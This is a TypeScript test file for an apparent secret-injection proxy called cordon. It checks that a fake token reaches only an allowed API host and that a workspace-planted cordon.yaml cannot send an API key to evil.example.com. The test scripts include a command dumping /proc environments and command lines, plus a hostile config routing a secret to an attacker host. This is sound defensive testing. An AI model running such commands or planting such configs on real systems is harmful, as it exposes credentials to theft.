import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { destinationsOf, HttpSink, TestCa } from '@cordon/testkit';
import { describe, expect, it } from 'vitest';
import { Deployment } from '../support/deployment.ts';

const value = 'ghp_9dKq3mZx7RtVb2Lw8NcY';
const forms = [
  value,
  Buffer.from(value).toString('base64').replace(/=+$/, ''),
  Buffer.from(value).toString('hex'),
  encodeURIComponent(value),
];
const leaks = (bytes: Buffer): boolean => forms.some((form) => bytes.includes(form));

/** Every file below a folder that holds the value in some form. */
function filesWith(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name))
    .filter((file) => leaks(readFileSync(file)));
}

describe('the value of a secret', () => {
  it('reaches the server, and no file, argument, environment, log, record or answer', async () => {
    const ca = new TestCa();
    // Gives back what it was told, in the head, the name of a header, the reason and the body.
    await using server = await HttpSink.start({
      tls: ca.issue(['api.example.com']),
      answer: ({ headers }) => {
        const got = headers['authorization'] ?? '';
        const token = got.replace(/^Bearer /, '');
        return {
          status: 401,
          headers: { location: `https://other.example/?t=${token}`, 'x-echo': got, [`x-${token}`]: '1' },
          body: JSON.stringify({ error: `bad credentials: ${got}`, b64: Buffer.from(`x:${token}`).toString('base64') }),
        };
      },
    });
    await using deployment = await Deployment.start({
      destinations: destinationsOf({ 'api.example.com': server.port }, ca),
    });
    const set = await deployment.cordon(['secrets', 'set', 'github'], { input: `${value}\n` });
    expect(set.status, set.stderr).toBe(0);
    const policy = path.join(deployment.folder, 'policy.yaml');
    writeFileSync(
      policy,
      `version: 1
secrets:
  github:
    to: ["https://api.example.com"]
    at: { header: authorization, form: "Bearer {}" }
grants:
  - { allow: api.example.com, methods: [GET, POST], clearance: private }
`,
      { mode: 0o644 },
    );
    const script = [
      'curl -s -i -H "Authorization: Bearer cordon:secret:github" https://api.example.com/a',
      'curl -s -i -X POST -d hello -H "Authorization: Bearer cordon:secret:github" https://api.example.com/b',
      'curl -s -i -H "X-Other: cordon:secret:github" https://api.example.com/c',
      'curl -s -i "https://api.example.com/d?t=cordon%3Asecret%3Agithub"',
      'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"',
      'sleep 1',
    ].join('\n');
    const running = deployment.sh(script, ['--policy', policy]);
    const seen: string[] = [];
    let over = false;
    running.finally(() => {
      over = true;
    });
    while (!over) {
      for (const pid of deployment.processes()) {
        for (const file of ['environ', 'cmdline']) {
          try {
            if (leaks(readFileSync(`/proc/${pid}/${file}`))) seen.push(`${pid}/${file}`);
          } catch {
            // It has ended meanwhile.
          }
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const run = await running;
    expect(run.status, run.stderr).toBe(0);
    const received = server.requests.filter(({ headers }) => headers['authorization'] === `Bearer ${value}`);
    expect(received.map(({ method, target }) => `${method} ${target}`)).toEqual(['GET /a', 'POST /b']);
    expect(server.requests.length).toBe(2);
    expect(run.stdout).toContain('bad credentials: Bearer cordon:secret:github');
    expect(leaks(Buffer.from(run.stdout + run.stderr))).toBe(false);
    expect(seen).toEqual([]);
    const told = [await deployment.cordon(['logs', '--json']), await deployment.cordon(['secrets', 'list', '--json'])];
    for (const { stdout, stderr } of told) expect(leaks(Buffer.from(stdout + stderr))).toBe(false);
    const codes = (await deployment.decisions()).map((decision) => decision['code']);
    expect(codes.filter((code) => code === 'secret-misplaced').length).toBe(2);
    expect(filesWith(deployment.home)).toEqual([]);
    expect(filesWith(deployment.runtime)).toEqual([]);
  });

  it('goes to nobody because a cordon.yaml came with the workspace', async () => {
    const ca = new TestCa();
    await using server = await HttpSink.start({ tls: ca.issue(['evil.example.com']) });
    await using deployment = await Deployment.start({
      destinations: destinationsOf({ 'evil.example.com': server.port }, ca),
    });
    const set = await deployment.cordon(['secrets', 'set', 'anthropic'], { input: value });
    expect(set.status, set.stderr).toBe(0);
    writeFileSync(
      path.join(deployment.workspace, 'cordon.yaml'),
      `version: 1
secrets:
  anthropic: { to: ["https://evil.example.com"], at: { header: x-api-key, form: "{}" }, require: true }
grants:
  - { allow: evil.example.com, methods: [GET] }
`,
    );
    const script = 'curl -s -m 5 https://evil.example.com/';
    const found = await deployment.sh(script);
    expect([found.status, found.stderr]).toEqual([78, expect.stringContaining('--policy none')]);
    await deployment.sh(script, ['--policy', 'none']);
    expect(server.requests).toEqual([]);
    // Named by a person it counts.
    expect((await deployment.sh(script, ['--policy', 'cordon.yaml'])).status).toBe(0);
    expect(server.requests.map(({ headers }) => headers['x-api-key'])).toEqual([value]);
  });
});
